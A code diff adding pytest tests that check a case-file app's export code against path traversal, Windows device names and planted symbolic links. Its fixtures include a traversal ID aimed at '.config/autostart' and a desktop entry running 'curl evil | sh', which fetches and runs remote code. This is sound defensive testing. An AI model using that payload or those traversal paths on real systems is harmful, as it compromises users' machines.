@@ -8,10 +8,12 @@ import json
 import os
 from datetime import date, time
 from pathlib import Path
+from typing import Any
 
 import pytest
 
 from casefile.domain.dates import PartialDate
+from casefile.errors import UnsafePathError
 from casefile.services.attachments import add_attachment
 from casefile.services.drafts import save_record
 from casefile.services.open_export import (
@@ -198,3 +200,126 @@ def test_partial_date_forms() -> None:
     assert to_json(PartialDate(2024)) == {"value": "2024", "approximate": False}
     assert to_json(PartialDate(2024, 4, 12)) == {"value": "2024-04-12", "approximate": False}
     assert to_csv_text(PartialDate(2023, approximate=True)) == "2023~"
+
+
+# -- names and places come from the app, never from a record ---------------------------------
+
+EVIL_ID = "../../../.config/autostart"
+EVIL_BYTES = b"[Desktop Entry]\nExec=sh -c 'curl evil | sh'\n"
+
+
+def _plant(vault: Vault, attachment_id: str, file_name: str | None, data: bytes) -> None:
+    """An attachment row as a hostile bundle could leave it, written past every check."""
+    from sqlalchemy import text
+
+    person_id = save_record(vault, "persons", None, {"full_name": "Planted"})
+    real_id = add_attachment(vault, "persons", person_id, "Planted", io.BytesIO(data), "x.bin")
+    with vault.write() as session:
+        session.execute(text("PRAGMA defer_foreign_keys = ON"))
+        session.execute(
+            text("UPDATE attachment_chunks SET attachment_id = :new WHERE attachment_id = :old"),
+            {"new": attachment_id, "old": real_id},
+        )
+        session.execute(
+            text("UPDATE attachments SET id = :new, file_name = :name WHERE id = :old"),
+            {"new": attachment_id, "name": file_name, "old": real_id},
+        )
+
+
+def _files_under(folder: Path) -> set[str]:
+    return {p.relative_to(folder).as_posix() for p in folder.rglob("*") if p.is_file()}
+
+
+@pytest.mark.parametrize("export", [export_json, export_csv])
+def test_a_hostile_attachment_id_stays_inside_the_export_folder(
+    vault: Vault, tmp_path: Path, export: Any
+) -> None:
+    _plant(vault, EVIL_ID, "evil.desktop", EVIL_BYTES)
+    home = tmp_path / "home"
+    folder = home / "exports" / "out"
+    outside_before = _files_under(tmp_path)
+    result = export(vault, folder, include_attachments=True)
+    created = _files_under(tmp_path) - outside_before
+    # Everything written lies inside the folder, nothing reached home/.config/autostart.
+    assert created and all(name.startswith("home/exports/out/") for name in created)
+    assert not (home / ".config").exists() and not (tmp_path / ".config").exists()
+    (written,) = [p for p in (folder / ATTACHMENTS_FOLDER).rglob("*") if p.is_file()]
+    assert written.read_bytes() == EVIL_BYTES  # the bytes are kept, under a name we made
+    assert written.name == "evil.desktop"
+    assert written.parent.name.startswith("unsafe-id-")
+    assert written.parent.parent == folder / ATTACHMENTS_FOLDER
+    assert result.attachment_files == 1
+    assert not [p for p in folder.iterdir() if p.name.startswith("casefile-export-unfinished")]
+
+
+def test_a_hostile_file_name_and_windows_device_names_are_made_safe(
+    vault: Vault, tmp_path: Path
+) -> None:
+    good_id = "0b6f4b1c-7d8e-4f20-9a41-3c5d6e7f8a9b"
+    _plant(vault, good_id, "../../../../.bashrc", b"bash")
+    device_id = "1c7a5b2d-8e9f-4a31-8b52-4d6e7f8a9bac"
+    _plant(vault, device_id, "CON.txt", b"con")
+    nul_id = "2d8b6c3e-9fa0-4b42-9c63-5e7f8a9bacbd"
+    _plant(vault, nul_id, "nul", b"nul")
+    folder = tmp_path / "out"
+    export_json(vault, folder, include_attachments=True)
+    base = folder / ATTACHMENTS_FOLDER
+    assert (base / good_id / "_.._.._.._.bashrc").read_bytes() == b"bash"
+    assert (base / device_id / "_CON.txt").read_bytes() == b"con"
+    assert (base / nul_id / "_nul").read_bytes() == b"nul"
+    doc = json.loads((folder / JSON_FILE_NAME).read_text(encoding="utf-8"))
+    paths = {row["id"]: row["path"] for row in doc["tables"]["attachments"]}
+    assert paths[device_id] == f"{ATTACHMENTS_FOLDER}/{device_id}/_CON.txt"
+    assert not (tmp_path / ".bashrc").exists()
+
+
+@pytest.mark.skipif(os.name == "nt", reason="symbolic links need privileges on Windows")
+@pytest.mark.parametrize("planted", [ATTACHMENTS_FOLDER, JSON_FILE_NAME])
+def test_a_link_planted_in_the_export_folder_is_not_followed(
+    vault: Vault, tmp_path: Path, planted: str
+) -> None:
+    person_id, _case_id, _hearing_id = _fill(vault)
+    add_attachment(vault, "persons", person_id, "Scan", io.BytesIO(b"scan"), "scan.pdf")
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    (outside / "victim").write_bytes(b"keep me")
+    folder = tmp_path / "out"
+    folder.mkdir()
+    target = outside if planted == ATTACHMENTS_FOLDER else outside / "victim"
+    (folder / planted).symlink_to(target)
+    for overwrite in (False, True):
+        with pytest.raises(UnsafePathError, match="is a link") as raised:
+            export_json(vault, folder, include_attachments=True, overwrite=overwrite)
+        assert str(folder / planted) in str(raised.value)
+    assert sorted(p.name for p in outside.iterdir()) == ["victim"]
+    assert (outside / "victim").read_bytes() == b"keep me"
+    assert sorted(p.name for p in folder.iterdir()) == [planted]  # the link, and nothing else
+
+
+def test_a_failed_export_leaves_no_folder_and_keeps_an_earlier_one(
+    vault: Vault, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    person_id, _case_id, _hearing_id = _fill(vault)
+    add_attachment(vault, "persons", person_id, "Scan", io.BytesIO(b"scan"), "scan.pdf")
+    from casefile.errors import VaultCorruptError
+    from casefile.services import open_export
+
+    def damaged(*_args: object) -> Any:
+        yield b"part"
+        raise VaultCorruptError("damaged")
+
+    monkeypatch.setattr(open_export, "verified_chunks", damaged)
+    fresh = tmp_path / "new" / "out"
+    with pytest.raises(VaultCorruptError):
+        export_json(vault, fresh, include_attachments=True)
+    assert not (tmp_path / "new").exists()  # the folders made for it went with it
+
+    earlier = tmp_path / "earlier"
+    monkeypatch.undo()
+    export_json(vault, earlier, include_attachments=True)
+    before = _files_under(earlier)
+    contents = {name: (earlier / name).read_bytes() for name in before}
+    monkeypatch.setattr(open_export, "verified_chunks", damaged)
+    with pytest.raises(VaultCorruptError):
+        export_json(vault, earlier, include_attachments=True, overwrite=True)
+    assert {name: (earlier / name).read_bytes() for name in _files_under(earlier)} == contents
